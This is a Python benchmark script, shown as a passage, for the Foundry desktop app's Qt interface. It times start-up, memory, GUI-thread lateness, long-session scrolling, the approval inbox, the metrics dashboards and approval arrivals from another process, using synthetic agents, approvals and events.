"""Desktop UI benchmarks: start-up, GUI-thread lateness and a long session, measured in one run.

1. Start-up: from process start to the first paint of the main window, with the sample agent
   (`foundry.ui.app.run()` in a fresh process on a temporary FOUNDRY_HOME); median of 3 runs.
   The time until the agent's first chat tab is ready is shown beside it. With --baseline REV,
   the app as it was at git revision REV is started in turn with this checkout's, and measured
   the same way. Target: the window painted within 1 s.
   1b (with --memory): the app's resident memory once the chat tab is open, and after one
   reply of the sample agent (the embedded model, used by its supervisors too). Target: under
   300 MiB after the reply.
2. GUI-thread lateness: a 10 ms timer on the GUI thread; lateness = actual interval - 10 ms,
   for an idle window and while a session streams 1,000 tokens through a guardian and a
   collection supervisor. Target: p99 under 16 ms and max under 50 ms.
3. A session of 10,000 messages: reopening it until every row is laid out (with the longest
   GUI-thread stall meanwhile), then scrolling it top to bottom in 50 steps, each one painted.
4. The approval inbox with 10,000 approvals: the open window taking them in, a new inbox
   opening (loaded and painted), then each filter and a sort, each one painted.
5. Approvals arriving at 50 a second from another Foundry (a process of its own) on the same
   database, the inbox in view: GUI lateness as in 2, and the time from an approval's creation
   to its arrival in the list (target p95 under 100 ms), beside an inbox that only polls every
   500 ms (the baseline: the inbox before the store's change watch). --inbox-only runs part 5
   alone.
6. The metrics dashboards over 100,000 and over 1,000,000 events (about 2,600 and 26,000
   generated task runs with their chats), each on a store of its own, written with the
   aggregates kept as appends keep them, a chat tab open as in the app: the dashboards preloaded
   as the app does once its first chat is ready (its time, longest GUI-thread stall and added
   memory), then from View > Dashboards to all twelve charts painted (each chart's canvas
   painted with the figures read; target under 300 ms at 100,000 events), with the longest
   GUI-thread stall; the
   tab closed and opened again (5 times each, in turn: medians), after another Store appended an
   event meanwhile (read and drawn
   again; target under 300 ms at 100,000 events) and with nothing new; each step alone (reading
   the figures on a worker thread, drawing and painting on the GUI thread), a filter change, and
   the time until a score appended through another Store on the same file is on screen. With
   --baseline REV, the same measured on the code of REV (without a preload if it has none)
   over a copy of the same store as it was before this checkout's run. Then,
   each in a process of its own for its peak memory: the figures read (new) and, as the
   baseline, every metric event read and the series computed from them (the way the dashboards
   worked before the aggregates).
7. The agent editor's Policy page on the sample agent (its policy's 95 rules): a call tried in
   the try panel, from Decide to the verdict shown (target under 100 ms; the first try apart,
   which opens the store and compiles the rules), and "Test against recorded calls" over 1,000
   recorded calls.

Run: python bench/ui.py [--runs 3] [--baseline REV] [--memory [MESSAGE]] [--startup-only]
                        [--tokens 1000] [--messages 10000] [--approvals 10000]
                        [--arrivals 10] [--rate 50] [--events 100000,1000000] [--dashboards-only]
                        [--dashboards-store SQLITE_FILE] [--no-old-path] [--recorded 1000]
                        [--policy-only] [--inbox-only] [--display]
(Qt runs offscreen unless DISPLAY is set and --display is given.)
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import gc
import importlib
import json
import os
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from PySide6.QtCore import QObject
    from PySide6.QtWidgets import QListView

    from foundry.runtime.engine import Engine
    from foundry.session.events import Event
    from foundry.store import Store
    from foundry.store.store import NewEvent
    from foundry.ui.bridge import EngineBridge
    from foundry.ui.dashboards import DashboardController, DashboardView
    from foundry.ui.session.view import SessionView
    from foundry.ui.window.main_window import MainWindow

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))  # measure this checkout, whichever copy of foundry is installed
SAMPLE_AGENT = REPO / "agents" / "assistant"
PROBE_MS = 10
SETTLE_S = 3.0
TARGET_P99_MS = 16.0
TARGET_MAX_MS = 50.0
TARGET_VISIBLE_S = 1.0
TARGET_MEMORY_MIB = 300
TARGET_DASHBOARDS_S = 0.3  # over 100,000 events, from View > Dashboards to every chart painted
REOPENINGS = 5  # of the dashboards' tab, with an event meanwhile and with nothing new
MEMORY_MESSAGE = "Hello! In one sentence, what can you do?"
GUARDIAN = {
    "type": "guardian",
    "id": "g",
    "name": "Guardian",
    "config": {"blockKeywords": ["x-forbidden"]},
}
COLLECTION = {"type": "collection", "id": "stats", "name": "Statistics", "config": {}}
USER_TEXT = (
    "Could you look at the **deployment notes** again? I think the second step is wrong, "
    "and the `retry` setting should be lower. Please check it against the runbook."
)
ASSISTANT_TEXT = (
    "You are right about the second step. Here is what I would change:\n\n"
    "- lower `retry` from **5** to *2*, so that a failing host is noticed sooner;\n"
    "- run the migration before the restart, not after it.\n\n"
    "The runbook agrees with both points; see [the notes](https://example.com/notes)."
)


# -- figures ------------------------------------------------------------------------------------


def quantile(values: list[float], fraction: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(fraction * (len(ordered) - 1)))]


def ms(seconds: float) -> str:
    return f"{seconds * 1000:.1f} ms"


def row(name: str, value: str, note: str = "") -> None:
    print(f"  {name:36} {value:>34}   {note}".rstrip())


# -- 1. start-up and memory ---------------------------------------------------------------------


def startup_child(spawned_at: float, timeout_s: float = 30.0) -> None:
    """In the spawned process: the app's own start-up, timed at the main window's first paint;
    the window closes (and the app exits) once the sample agent's chat tab is there."""
    marks: dict[str, float] = {}

    def when_ready(window: MainWindow) -> None:
        marks["ready_s"] = time.time() - spawned_at
        window.close()

    def when_painted(window: MainWindow) -> None:
        marks["visible_s"] = time.time() - spawned_at
        _when_chat_is_there(window, spawned_at + timeout_s, when_ready)

    _run_app(when_painted)
    print(json.dumps(marks))


def memory_child(message: str, timeout_s: float = 900.0) -> None:
    """In the spawned process: the app with the sample agent; once its chat tab is there, one
    message is sent, and the process's memory is read when the reply has finished."""
    figures: dict[str, float] = {}

    def when_replied(window: MainWindow) -> None:
        figures.update(memory_mib(), replied=1.0)
        window.close()

    def when_ready(window: MainWindow) -> None:
        figures.update({f"ready_{name}": value for name, value in memory_mib().items()})
        controller = window.controllers[0]
        _when_turn_finished(window, controller.session_id, when_replied)
        controller.view.input.setPlainText(message)
        controller.send()

    _run_app(lambda window: _when_chat_is_there(window, time.time() + timeout_s, when_ready))
    print(json.dumps(figures))


def memory_mib() -> dict[str, float]:
    """This process's resident memory (and its peak, anonymous and file-backed parts), MiB."""
    status = Path("/proc/self/status")
    if not status.exists():
        return {}
    fields = dict(line.split(":", 1) for line in status.read_text().splitlines() if ":" in line)
    names = {"rss": "VmRSS", "peak": "VmHWM", "anon": "RssAnon", "file": "RssFile"}
    return {name: int(fields[field].split()[0]) / 1024 for name, field in names.items()}


def _run_app(on_first_paint: Callable[[MainWindow], None]) -> None:
    """Run the app with the sample agent as a user starts it; `on_first_paint` gets the window."""
    from PySide6.QtCore import QEvent, QObject
    from PySide6.QtWidgets import QApplication, QMainWindow

    from foundry.ui import app as foundry_app

    class FirstPaint(QObject):
        painted = False

        def eventFilter(self, watched: QObject, event: QEvent) -> bool:
            painted = event.type() == QEvent.Type.Paint and isinstance(watched, QMainWindow)
            if painted and not self.painted:
                self.painted = True
                on_first_paint(watched)  # type: ignore[arg-type]
            return False

    application = QApplication(sys.argv)
    watcher = FirstPaint()
    application.installEventFilter(watcher)
    foundry_app.run(foundry_app.sample_agent() or SAMPLE_AGENT)


def _when_chat_is_there(
    window: MainWindow, deadline: float, then: Callable[[MainWindow], None]
) -> None:
    """`then(window)` once the window has its first chat tab; the window closes at `deadline`."""
    from PySide6.QtCore import QTimer

    def poll() -> None:
        ready = window.tabs.count() > 0 and bool(window.controllers)
        if ready:
            timer.stop()
            then(window)
        elif time.time() > deadline:
            timer.stop()
            window.close()

    timer = QTimer(window)
    timer.timeout.connect(poll)
    timer.start(5)


def _when_turn_finished(
    window: MainWindow, session_id: str, then: Callable[[MainWindow], None]
) -> None:
    from foundry.session.events import TurnFinished

    def on_event(event: Event) -> None:
        if event.session_id == session_id and isinstance(event.body, TurnFinished):
            window.bridge.event_arrived.disconnect(on_event)
            then(window)

    window.bridge.event_arrived.connect(on_event)


def spawn_child(tree: Path, home: Path, *arguments: str) -> dict[str, float]:
    """A child process running `tree`'s copy of this file (and so `tree`'s Foundry)."""
    environment = {**os.environ, "FOUNDRY_HOME": str(home), "PYTHONPATH": str(tree)}
    command = [sys.executable, str(tree / "bench" / "ui.py"), *arguments]
    done = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=1800)
    if done.returncode != 0:
        raise RuntimeError(f"the child process failed:\n{done.stderr[-2000:]}")
    return dict(json.loads(done.stdout.strip().splitlines()[-1]))


def baseline_tree(revision: str, workdir: Path) -> Path:
    """Foundry as it was at `revision`, with this file as its benchmark: the same measurement
    of the older code."""
    tree = workdir / "baseline"
    tree.mkdir()
    archive = subprocess.run(
        ["git", "-C", str(REPO), "archive", revision], capture_output=True, check=True
    )
    subprocess.run(["tar", "-x", "-C", str(tree)], input=archive.stdout, check=True)
    (tree / "bench" / "ui.py").write_bytes(Path(__file__).read_bytes())
    return tree


def bench_startup(args: argparse.Namespace, workdir: Path) -> None:
    trees = {"new": REPO}
    if args.baseline:
        trees[f"old ({args.baseline})"] = baseline_tree(args.baseline, workdir)
    results: dict[str, list[dict[str, float]]] = {name: [] for name in trees}
    for number in range(args.runs):  # the trees in turn, so that both see the same load
        for name, tree in trees.items():
            home = workdir / f"home-{number}-{tree.name}"
            results[name].append(spawn_child(tree, home, "--startup-child", repr(time.time())))
    print(
        f"\n1. Start-up with the sample agent ({args.runs} processes each, fresh FOUNDRY_HOME; "
        f"target: the window painted within {TARGET_VISIBLE_S:.0f} s)"
    )
    for name, runs in results.items():
        visible = [run["visible_s"] for run in runs]
        ready = [run["ready_s"] for run in runs if "ready_s" in run]
        row(f"{name}: window painted", ms(statistics.median(visible)), _runs(visible))
        if ready:
            row(f"{name}: first chat tab", ms(statistics.median(ready)), _runs(ready))
    if args.memory:
        bench_memory(trees, workdir, args.memory)


def bench_memory(trees: dict[str, Path], workdir: Path, message: str) -> None:
    print(
        f"\n1b. Memory of the app with the sample agent, before and after one reply to "
        f"{message!r} (target after it: under {TARGET_MEMORY_MIB} MiB resident)"
    )
    for name, tree in trees.items():
        figures = spawn_child(tree, workdir / f"memory-{tree.name}", "--memory-child", message)
        if "ready_rss" in figures:
            row(f"{name}: chat tab open", f"{figures['ready_rss']:.0f} MiB")
        if "replied" not in figures:
            row(f"{name}: after the reply", "no reply in time")
            continue
        parts = f"{figures['anon']:.0f} anonymous + {figures['file']:.0f} file-backed"
        row(f"{name}: after the reply", f"{figures['rss']:.0f} MiB", parts)
        row(f"{name}: peak", f"{figures['peak']:.0f} MiB")


def _runs(values: list[float]) -> str:
    return "median of " + ", ".join(f"{value * 1000:.0f}" for value in values) + " ms"


# -- the window in this process -----------------------------------------------------------------


@dataclass
class Studio:
    """The window under test and the engine behind it."""

    engine: Engine
    bridge: EngineBridge
    window: MainWindow


def write_agent(root: Path, words: int, delay_s: float) -> Path:
    """A folder agent whose scripted model streams `words` words, watched by two supervisors."""
    root.mkdir(parents=True, exist_ok=True)
    text = " ".join(f"word{number}" for number in range(words))
    (root / "turns.json").write_text(json.dumps({"delay_s": delay_s, "turns": [{"text": text}]}))
    config = {
        "metadata": {"name": root.name},
        "settings": {"model": "scripted:turns.json", "toolPermission": "tool"},
        "mcpServers": {},
        "supervisors": [GUARDIAN, COLLECTION],
    }
    (root / "tsagent.json").write_text(json.dumps(config))
    (root / "prompt.md").write_text("You are a benchmark agent.")
    return root


class LatenessProbe:
    """A precise 10 ms timer on the GUI thread that records how late each tick comes."""

    def __init__(self) -> None:
        from PySide6.QtCore import Qt, QTimer

        self.lateness_s: list[float] = []
        self._last = 0.0
        self._timer = QTimer()
        self._timer.setTimerType(Qt.TimerType.PreciseTimer)
        self._timer.setInterval(PROBE_MS)
        self._timer.timeout.connect(self._tick)

    def start(self) -> None:
        self.lateness_s = []
        self._last = time.perf_counter()
        self._timer.start()

    def stop(self) -> list[float]:
        self._timer.stop()
        return self.lateness_s

    def _tick(self) -> None:
        now = time.perf_counter()
        self.lateness_s.append(now - self._last - PROBE_MS / 1000)
        self._last = now


# -- 2. GUI-thread lateness ---------------------------------------------------------------------


async def bench_lateness(studio: Studio, workdir: Path, tokens: int, idle_s: float) -> None:
    await studio.window.open_agent(write_agent(workdir / "streaming", tokens, delay_s=0.003))
    gc.freeze()  # as foundry.ui.app does once the window is up
    controller = studio.window.controllers[-1]
    probe = LatenessProbe()
    probe.start()
    await asyncio.sleep(idle_s)
    idle = probe.stop()
    finished = _turn_finished(studio.bridge, controller.session_id)
    controller.view.input.setPlainText("Tell me a long story.")
    started = time.perf_counter()
    probe.start()
    controller.send()
    await finished
    streaming = probe.stop()
    took = time.perf_counter() - started
    print(f"\n2. GUI-thread lateness of a {PROBE_MS} ms timer (target p99 < 16 ms, max < 50 ms)")
    _report_lateness(f"idle window, {idle_s:.0f} s", idle)
    _report_lateness(f"streaming {tokens:,} tokens, {took:.1f} s", streaming)
    reply = controller.view.conversation.rows[-1]
    row("reply shown in full", f"{len(reply.text.split()):,} words", f"of {tokens:,} streamed")


def _turn_finished(bridge: EngineBridge, session_id: str) -> asyncio.Future[None]:
    from foundry.session.events import TurnFinished

    finished: asyncio.Future[None] = asyncio.get_running_loop().create_future()

    def on_event(event: Event) -> None:
        ours = event.session_id == session_id and isinstance(event.body, TurnFinished)
        if ours and not finished.done():
            finished.set_result(None)

    bridge.event_arrived.connect(on_event)
    finished.add_done_callback(lambda _: bridge.event_arrived.disconnect(on_event))
    return finished


def _report_lateness(name: str, lateness: list[float]) -> None:
    p50, p99, worst = quantile(lateness, 0.5), quantile(lateness, 0.99), max(lateness)
    met = p99 * 1000 < TARGET_P99_MS and worst * 1000 < TARGET_MAX_MS
    figures = f"p50 {p50 * 1000:.1f} / p99 {p99 * 1000:.1f} / max {worst * 1000:.1f} ms"
    row(name, figures, f"{len(lateness)} ticks, target {'met' if met else 'MISSED'}")


# -- 3. a long session --------------------------------------------------------------------------


def write_long_session(engine: Engine, agent: Path, messages: int, batch: int = 1000) -> str:
    """A closed session of `messages` alternating user and assistant messages, written straight
    into the store in batches (as the journal would write them, without a model)."""
    session_id = engine.submit(engine.open_session(agent)).result(30)
    engine.submit(engine.close_session(session_id)).result(30)
    events = list(_conversation_events(session_id, messages))
    for start in range(0, len(events), batch):
        engine.store.events.append_many(events[start : start + batch])
    return session_id


def _conversation_events(session_id: str, messages: int) -> Iterator[NewEvent]:
    from foundry.llm.base import ChatMessage
    from foundry.session.events import MessageAdded, TurnFinished, TurnStarted, event_payload
    from foundry.store import MessageRecord
    from foundry.store.store import NewEvent

    for number in range(messages):
        role = "user" if number % 2 == 0 else "assistant"
        text = f"{USER_TEXT if role == 'user' else ASSISTANT_TEXT} ({number})"
        if role == "user":
            yield NewEvent(session_id, "turn_started", event_payload(TurnStarted()))
        body = MessageAdded(message=ChatMessage(role=role, content=text))
        record = MessageRecord(session_id=session_id, seq=0, role=role, content=text, data={})
        yield NewEvent(session_id, "message", event_payload(body), record)
        if role == "assistant":
            ended = TurnFinished(reply=text, model_calls=1, ended_by="reply")
            yield NewEvent(session_id, "turn_finished", event_payload(ended))


async def bench_long_session(studio: Studio, workdir: Path, messages: int, steps: int) -> None:
    agent = write_agent(workdir / "history", 10, delay_s=0.0)
    started = time.perf_counter()
    session_id = await asyncio.to_thread(write_long_session, studio.engine, agent, messages)
    written = time.perf_counter() - started
    probe = LatenessProbe()
    probe.start()
    started = time.perf_counter()
    await studio.window.reopen_session(session_id)
    reopened = time.perf_counter() - started
    view: SessionView = studio.window.tabs.currentWidget()  # type: ignore[assignment]
    await _until_laid_out(view.messages)
    laid_out = time.perf_counter() - started
    stalls = probe.stop()
    scrolling = await _scroll_through(view.messages, steps)
    print(f"\n3. A session of {messages:,} messages")
    row("written to the store (setup)", f"{written:.2f} s")
    row("reopen_session() returned", f"{reopened:.2f} s")
    row("every row laid out", f"{laid_out:.2f} s", "from the start of the reopen")
    row("longest GUI-thread stall meanwhile", ms(max(stalls)), "lateness of the 10 ms timer")
    row("rows shown", f"{view.conversation.rowCount():,}", f"for {messages:,} messages")
    note = f"per step p50 {ms(quantile(scrolling, 0.5))}, max {ms(max(scrolling))}"
    row(f"scroll top -> bottom in {steps} steps", f"{sum(scrolling):.2f} s", note)


async def _until_laid_out(messages: QListView, timeout_s: float = 60.0) -> None:
    """Until the batched layout has reached the last row (its rectangle is known)."""
    model = messages.model()
    last = model.index(model.rowCount() - 1, 0)
    deadline = time.perf_counter() + timeout_s
    while not messages.visualRect(last).isValid() and time.perf_counter() < deadline:
        await asyncio.sleep(0)


async def _scroll_through(messages: QListView, steps: int) -> list[float]:
    """Seconds per step of moving the scroll bar from top to bottom, each step painted. The
    loop runs between steps (never QApplication.processEvents() inside a task under qasync:
    a task woken inside it cannot be entered, and is left pending forever)."""
    bar = messages.verticalScrollBar()
    bar.setValue(0)
    await asyncio.sleep(0)
    durations = []
    for step in range(1, steps + 1):
        started = time.perf_counter()
        bar.setValue(round(bar.maximum() * step / steps))
        await asyncio.sleep(0)
        messages.viewport().repaint()
        durations.append(time.perf_counter() - started)
    return durations


# -- 4. the approval inbox ---------------------------------------------------------------------

TOOLS = ("fs.write_file", "fs.read_file", "mail.send", "web.fetch", "shell.exec", "time.now")
AGENTS = ("assistant", "researcher", "builder", "reviewer")
PENDING_SHARE = 5  # one approval in five is pending


def write_approvals(store: Store, count: int) -> int:
    """`count` approvals of the last day written straight into the store in one transaction,
    one in five pending; returns how many are pending."""
    from datetime import timedelta

    from sqlmodel import Session

    from foundry.store import ApprovalRecord
    from foundry.store.tables import utc_now

    now = utc_now()
    records = []
    for number in range(count):
        created = now - timedelta(seconds=8 * number)
        pending = number % PENDING_SHARE == 0
        records.append(
            ApprovalRecord(
                agent_id=AGENTS[number % len(AGENTS)],
                tool=TOOLS[number % len(TOOLS)],
                params={"path": f"notes/{number}.md", "content": "words " * 60},
                level="L1" if number % 3 else "L0",
                status="pending" if pending else ("approved", "denied")[number % 2],
                created_at=created,
                expires_at=now + timedelta(hours=1),
                resolved_at=None if pending else created + timedelta(seconds=40),
                resolved_by=None if pending else "human:cli:ana",
            )
        )
    with Session(store.engine, expire_on_commit=False) as session:
        session.add_all(records)
        session.commit()
    return sum(1 for record in records if record.status == "pending")


async def bench_inbox(studio: Studio, approvals: int) -> None:
    from PySide6.QtCore import Qt

    from foundry.ui.inbox import InboxController, InboxView
    from foundry.ui.inbox.model import Column

    following = studio.window.inbox_controller  # the window's own inbox, polling all along
    before = following.pending_count
    pending = await asyncio.to_thread(write_approvals, studio.engine.store, approvals)
    started = time.perf_counter()
    await _until(lambda: following.pending_count == before + pending)
    taken_in = time.perf_counter() - started
    started = time.perf_counter()
    view = InboxView()
    controller = InboxController(view, studio.bridge)
    view.resize(1280, 760)
    view.show()
    await _until(lambda: controller.loaded)
    view.repaint()
    opened = time.perf_counter() - started
    changes = (
        ("filter: tool glob fs.*", lambda: view.tool_filter.setText("fs.*")),
        ("filter: one agent", lambda: view.agent_filter.setCurrentIndex(1)),
        ("filter: any status", lambda: view.status_filter.setCurrentIndex(4)),
        ("filter: older than 1 hour", lambda: view.age_filter.setCurrentIndex(4)),
        (
            "sort by tool",
            lambda: view.pending_table.sortByColumn(Column.TOOL, Qt.SortOrder.AscendingOrder),
        ),
        ("clear the filters", lambda: _clear_filters(view)),
    )
    print(f"\n4. The approval inbox, {approvals:,} approvals ({pending:,} pending)")
    row("the open window takes them in", f"{taken_in:.2f} s", "one poll: pending ids, then rows")
    row("a new inbox opens, loaded, painted", f"{opened:.2f} s", f"{view.model.rowCount():,} rows")
    for name, change in changes:
        started = time.perf_counter()
        change()
        view.repaint()
        row(name, ms(time.perf_counter() - started), f"{view.pending.rowCount():,} rows shown")
    controller.close()
    view.close()


def _clear_filters(view: Any) -> None:
    view.tool_filter.clear()
    view.agent_filter.setCurrentIndex(0)
    view.status_filter.setCurrentIndex(0)
    view.age_filter.setCurrentIndex(0)


async def _until(condition: Any, timeout_s: float = 120.0) -> None:
    deadline = time.perf_counter() + timeout_s
    while not condition() and time.perf_counter() < deadline:
        await asyncio.sleep(0.005)


async def bench_arrivals(studio: Studio, database: Path, seconds: float, rate: int = 50) -> None:
    """Another Foundry (a process of its own) on the same database asks for `rate` approvals a
    second, once with the window's inbox in view (told of changes by the store's change watch),
    then, as the baseline, with an inbox that only polls every 500 ms, as the inbox did before."""
    from foundry.ui.inbox import InboxController, InboxView

    print(f"\n5. Approvals arriving at {rate} a second for {seconds:.0f} s (from another Foundry)")
    studio.window.show_inbox()
    pushed = studio.window.inbox_controller
    await _arrivals(pushed, database, 1.0, rate)  # warm-up: what the inbox imports when used
    probe = LatenessProbe()
    probe.start()
    seen = await _arrivals(pushed, database, seconds, rate)
    _report_lateness("GUI lateness, the inbox in view", probe.stop())
    _report_arrivals("pushed: asked -> in the inbox", seen, "target p95 under 100 ms")
    changes = studio.engine.store.approval_changes
    with _unwatched(changes):  # the inbox as it was: the poll alone
        view = InboxView()
        polled = InboxController(view, studio.bridge, poll_ms=500)
        view.show()
        try:
            await _until(lambda: polled.loaded)
            seen = await _arrivals(polled, database, seconds, rate)
        finally:
            polled.close()
            view.close()
    _report_arrivals("before (a 500 ms poll): asked -> in the inbox", seen)


async def _arrivals(inbox: Any, database: Path, seconds: float, rate: int) -> list[float]:
    """Seconds from each approval's creation by another process until `inbox` took it in."""
    from foundry.store import ApprovalRecord
    from foundry.store.tables import utc_now

    seen: list[float] = []

    def on_arrival(records: list[ApprovalRecord]) -> None:
        seen.extend((utc_now() - record.created_at).total_seconds() for record in records)

    inbox.arrived.connect(on_arrival)
    command = [sys.executable, __file__, "--asking-child", str(database), str(seconds), str(rate)]
    asking = await asyncio.create_subprocess_exec(*command, stdout=asyncio.subprocess.PIPE)
    output, _ = await asking.communicate()
    created = int(output.decode().strip().splitlines()[-1])
    await _until(lambda: len(seen) >= created, timeout_s=10)
    inbox.arrived.disconnect(on_arrival)
    return seen


@contextlib.contextmanager
def _unwatched(changes: Any) -> Iterator[None]:
    """Subscribing to `changes` does nothing while in the block."""
    subscribe = changes.subscribed
    changes.subscribed = lambda _listener: contextlib.nullcontext()
    try:
        yield
    finally:
        changes.subscribed = subscribe


def _report_arrivals(name: str, seen: list[float], target: str = "") -> None:
    figures = (
        f"p50 {ms(quantile(seen, 0.5))} / p95 {ms(quantile(seen, 0.95))} / "
        f"p99 {ms(quantile(seen, 0.99))} / max {ms(max(seen))}"
    )
    row(name, figures, f"{len(seen)} arrived; {target}" if target else f"{len(seen)} arrived")


def asking_child(database: str, seconds: float, rate: int) -> None:
    """In the spawned process: ask for `rate` approvals a second; print how many."""
    from datetime import timedelta

    from foundry.store import ApprovalRecord, Store
    from foundry.store.tables import utc_now

    store = Store.open(f"sqlite:///{database}")
    started = time.perf_counter()
    count = 0
    while time.perf_counter() - started < seconds:
        count += 1
        store.approvals.create(
            ApprovalRecord(
                agent_id=AGENTS[count % len(AGENTS)],
                tool=TOOLS[count % len(TOOLS)],
                params={"n": count},
                level="L0",
                expires_at=utc_now() + timedelta(minutes=5),
            )
        )
        time.sleep(max(0.0, started + count / rate - time.perf_counter()))
    store.close()
    print(count)


# -- 6. the metrics dashboards ------------------------------------------------------------------

TASKS_PER_CHUNK = 1000
EVENTS_PER_TASK = 44  # about, in the synthetic log (its supervisors' decisions included)


def generated_chunks(wanted: int) -> Iterator[list[Event]]:
    """The synthetic log of `wanted` events (about), a thousand task runs at a time, each
    thousand with its own session ids and later than the one before (memory stays flat)."""
    from datetime import timedelta

    from tests.metrics.synthetic_log import shifted, synthetic_log

    tasks = wanted // EVENTS_PER_TASK + 1
    for chunk, first in enumerate(range(0, tasks, TASKS_PER_CHUNK)):
        count = min(TASKS_PER_CHUNK, tasks - first)
        events = synthetic_log(count, seed=7 + chunk)
        moved = shifted(events, timedelta(seconds=chunk * TASKS_PER_CHUNK * 600.0))
        yield [
            event.model_copy(update={"session_id": f"c{chunk}-{event.session_id}"})
            for event in moved
        ]


def write_timed_events(store: Store, events: list[Event], batch: int = 5000) -> None:
    """Events stored with their own times (the journal would stamp them with the time of
    writing), in batches of plain inserts, each folded into the aggregates in its transaction
    as an append does."""
    import sqlalchemy as sa
    from sqlmodel import Session

    from foundry.metrics.loader import METRIC_KINDS
    from foundry.metrics.stored import fold_stored
    from foundry.session.events import event_payload
    from foundry.store import EventRecord

    for start in range(0, len(events), batch):
        chunk = events[start : start + batch]
        rows = [
            {
                "session_id": event.session_id,
                "seq": event.seq,
                "kind": event.kind,
                "time": event.time,
                "payload": event_payload(event.body),
            }
            for event in chunk
        ]
        with Session(store.engine) as session:
            session.execute(sa.insert(EventRecord), rows)
            fold_stored(session, [event for event in chunk if event.kind in METRIC_KINDS])
            session.commit()


def _next_update(controller: DashboardController) -> asyncio.Future[None]:
    updated: asyncio.Future[None] = asyncio.get_running_loop().create_future()

    def done() -> None:
        if not updated.done():
            updated.set_result(None)

    controller.updated.connect(done)
    updated.add_done_callback(lambda _: controller.updated.disconnect(done))
    return updated


def dashboard_child(path: str, which: str) -> None:
    """In a process of its own (so that its peak memory is its own): the old way (every metric
    event read, the series computed from them) or the new (the figures read from the
    aggregates); prints the time and the peak memory as JSON."""
    from foundry.metrics import dashboard_series, load_metric_events, read_figures
    from foundry.store import Store

    with Store.open(f"sqlite:///{path}") as store:
        started = time.perf_counter()
        if which == "old":
            events = load_metric_events(store)
            read_s = time.perf_counter() - started
            dashboard_series(events)
        else:
            read_figures(store)
            read_s = time.perf_counter() - started
        total_s = time.perf_counter() - started
    peak_mb = _peak_memory_mb()
    print(json.dumps({"read_s": read_s, "total_s": total_s, "peak_mb": peak_mb}))


def _peak_memory_mb() -> float:
    """This process's peak resident memory (VmHWM: ru_maxrss would count the parent's from
    before the exec on Linux)."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    return float("nan")


def _baseline_dashboards(revision: str, workdir: Path, path: Path) -> None:
    """Part 6 of Foundry as it was at `revision` (measured by this file) over a copy of the
    same store, its lines printed under these."""
    tree = workdir / "baseline"
    if not tree.exists():
        baseline_tree(revision, workdir)
    part_six = ["--dashboards-only", "--no-old-path", "--events", "", "--dashboards-store"]
    done = subprocess.run(
        [sys.executable, str(tree / "bench" / "ui.py"), *part_six, str(path)],
        env={**os.environ, "PYTHONPATH": str(tree)},
        capture_output=True,
        text=True,
        timeout=1800,
    )
    if done.returncode != 0:
        raise RuntimeError(f"the baseline's part 6 failed:\n{done.stderr[-2000:]}")
    lines = done.stdout.splitlines()
    first = next(i for i, line in enumerate(lines) if line.startswith("6. "))
    print(f"  baseline: the same at {revision}, over a copy of the same store")
    for line in lines[first + 2 :]:
        if line.strip() and not line.startswith("(whole run"):
            print(f"  {line}")


def _copy_store(path: Path, copy: Path) -> None:
    """A copy of the SQLite store at `path` as committed (its write-ahead log included)."""
    import sqlite3

    with (
        contextlib.closing(sqlite3.connect(path)) as source,
        contextlib.closing(sqlite3.connect(copy)) as target,
    ):
        source.backup(target)


def _run_dashboard_child(path: Path, which: str) -> dict[str, float]:
    result = subprocess.run(
        [sys.executable, __file__, "--dashboard-child", str(path), which],
        capture_output=True,
        text=True,
        check=True,
        timeout=1800,
    )
    figures: dict[str, float] = json.loads(result.stdout.strip().splitlines()[-1])
    return figures


async def bench_dashboards(
    workdir: Path,
    wanted: int,
    old_path: bool,
    existing: Path | None = None,
    baseline: str | None = None,
) -> None:
    """Part 6 over `wanted` generated events, or over a copy of an `existing` store."""
    import shutil

    from foundry.metrics import metrics_state
    from foundry.runtime.engine import Engine
    from foundry.store import Store
    from foundry.ui.bridge import EngineBridge
    from foundry.ui.window.main_window import WINDOW_PARTS, MainWindow

    for module in WINDOW_PARTS:  # as the app imports them with the engine, before any tab opens
        importlib.import_module(module)
    path = workdir / f"dashboards-{wanted}.sqlite3"
    started = time.perf_counter()
    if existing is not None:
        await asyncio.to_thread(shutil.copyfile, existing, path)
    store = Store.open(f"sqlite:///{path}")
    for chunk in () if existing else generated_chunks(wanted):
        await asyncio.to_thread(write_timed_events, store, chunk)
    written = metrics_state(store).events
    setup_s = time.perf_counter() - started
    untouched = workdir / f"dashboards-{wanted}-baseline.sqlite3"
    if baseline:  # this run appends events (which may widen the span): the baseline's own copy
        await asyncio.to_thread(_copy_store, path, untouched)
    engine = Engine(store).start()
    bridge = EngineBridge(engine)
    window = MainWindow(bridge)
    window.show()
    window.resize(1600, 2400)  # every chart on screen, so that every chart is painted
    await window.open_agent(write_agent(workdir / f"chat-{wanted}", words=10, delay_s=0.0))
    gc.collect()  # the generated events are gone;
    gc.freeze()  # what is left lives as long as the window, as foundry.ui.app freezes it
    try:
        await _bench_open_dashboards(
            window, store, written, setup_s, path, copied=existing is not None
        )
    finally:
        window.close()
        bridge.close()
        await asyncio.to_thread(engine.stop)
        store.close()
    if baseline:
        await asyncio.to_thread(_baseline_dashboards, baseline, workdir, untouched)
    new = await asyncio.to_thread(_run_dashboard_child, path, "new")
    row(
        "  new: read the figures",
        f"{new['total_s']:.2f} s",
        f"own process, peak {new['peak_mb']:,.0f} MB",
    )
    if old_path:
        old = await asyncio.to_thread(_run_dashboard_child, path, "old")
        row(
            "  old: read every event + series",
            f"{old['total_s']:.2f} s",
            f"baseline: read {old['read_s']:.2f} s, peak {old['peak_mb']:,.0f} MB",
        )


class PaintWatch:
    """The figures each chart of the dashboards was last painted with (a paint of its canvas)."""

    def __init__(self, view: DashboardView) -> None:
        from PySide6.QtCore import QEvent, QObject

        charts = {chart.graphics.viewport(): chart for chart in view.charts()}
        self.painted: dict[Any, Any] = {}
        watch = self

        class Painted(QObject):
            def eventFilter(self, watched: QObject, event: QEvent) -> bool:
                chart = charts.get(watched)
                if chart is not None and event.type() == QEvent.Type.Paint:
                    watch.painted[chart] = chart.figures
                return False

